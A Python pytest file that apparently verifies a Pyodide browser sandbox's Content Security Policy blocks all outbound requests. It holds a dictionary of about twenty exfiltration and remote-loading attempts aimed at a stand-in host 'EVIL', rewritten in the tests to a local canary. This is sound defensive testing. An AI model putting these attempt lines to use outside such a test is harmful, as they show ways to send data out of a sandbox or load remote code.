"""The CSP promise: no request leaves the sandbox, whatever its code does, hardened or not."""

from __future__ import annotations

import socket
from collections.abc import Iterator

import pytest
from playwright.sync_api import Request
from support.canary import Canary
from support.engines import Engine, SandboxPage

pytestmark = pytest.mark.browser


ATTEMPTS = {
    "fetch": "await js.fetch('http://EVIL/fetch')",
    "fetch no-cors": "await js.fetch('http://EVIL/x', mode='no-cors')",
    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch('http://EVIL/pyfetch')",
    "open_url": "from pyodide.http import open_url\nopen_url('http://EVIL/open_url')",
    "XMLHttpRequest": "r = js.XMLHttpRequest.new()\nr.open('GET', 'http://EVIL/xhr', False)\nr.send()",
    "WebSocket": "w = js.WebSocket.new('ws://EVIL/ws')\nawait asyncio.sleep(0.3)\nassert w.readyState == 1",
    "EventSource": "e = js.EventSource.new('http://EVIL/es')\nawait asyncio.sleep(0.3)\nassert e.readyState == 1",
    "import": "await js.eval(\"import('http://EVIL/module.js')\")",
    "importScripts": "js.importScripts('http://EVIL/script.js')",
    "sendBeacon": "assert js.navigator.sendBeacon('http://EVIL/beacon', 'x')",
    "WebTransport": "t = js.WebTransport.new('https://EVIL/wt')\nawait t.ready",
    "nested worker": "js.Worker.new('http://EVIL/worker.js')\nraise OSError('made, but loads nothing')",
    "FontFace": "await js.FontFace.new('f', 'url(http://EVIL/font)').load()",
    "RTCPeerConnection": "js.RTCPeerConnection.new()",
    "BroadcastChannel": "js.BroadcastChannel.new('x').postMessage('x')\nraise OSError('heard by nobody')",
    "indexedDB": "js.indexedDB.open('x')",
    "caches": "await js.caches.open('x')",
    "urllib": "import urllib.request\nurllib.request.urlopen('http://EVIL/urllib', timeout=1)",
    "socket": "import socket\nsocket.create_connection(('127.0.0.1', EVILPORT), timeout=1).send(b'x')\n"
    "await asyncio.sleep(0.3)\nraise OSError('sent into the void')",
    "micropip": "import micropip\nawait micropip.install('http://EVIL/x-1-py3-none-any.whl')",
    "emscripten_run_script": "import ctypes\nctypes.CDLL(None).emscripten_run_script(b\"fetch('http://EVIL/ctypes')\")",
}


@pytest.fixture(scope="module")
def sandbox(engine: Engine, served: str) -> Iterator[SandboxPage]:
    with engine.open(served) as opened:
        opened.complaints.allow("")  # Firefox tells the page of everything it refuses a worker
        opened.load()
        opened.start(limits={"time_ms": 5000}, hardened=False)
        assert opened.value("import js; 'at hand'") == "at hand"
        yield opened


def test_the_canary_hears_a_connection_that_is_made(canary: Canary) -> None:
    with socket.create_connection(("127.0.0.1", canary.port)) as connection:
        connection.send(b"hello")
    assert canary.heard() == [b"hello"]


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_nothing_leaves(attempt: str, sandbox: SandboxPage, canary: Canary) -> None:
    code = ATTEMPTS[attempt].replace("EVILPORT", str(canary.port)).replace("EVIL", f"127.0.0.1:{canary.port}")
    asked: list[Request] = []

    def listen(request: Request) -> None:
        if str(canary.port) in request.url:
            asked.append(request)

    sandbox.page.on("request", listen)
    outcome = sandbox.outcome(f"import asyncio, js\n{code}\n'it worked'")
    sandbox.page.wait_for_timeout(300)
    sandbox.page.remove_listener("request", listen)
    result = outcome.get("result") or {}
    assert result.get("error") or outcome.get("error"), f"{attempt} did not fail: {result}"
    assert canary.heard() == []
    assert not [request.url for request in asked if request.failure != "csp"]
    assert sandbox.value("40 + 2") == "42"


def test_the_frame_has_an_opaque_origin_and_no_way_to_the_page(sandbox: SandboxPage) -> None:
    frame = next(frame for frame in sandbox.page.frames if "frame.html" in frame.url)
    assert frame.evaluate("self.origin") == "null"
    reached = frame.evaluate("() => { try { return parent.document.title } catch (error) { return error.name } }")
    assert reached == "SecurityError"
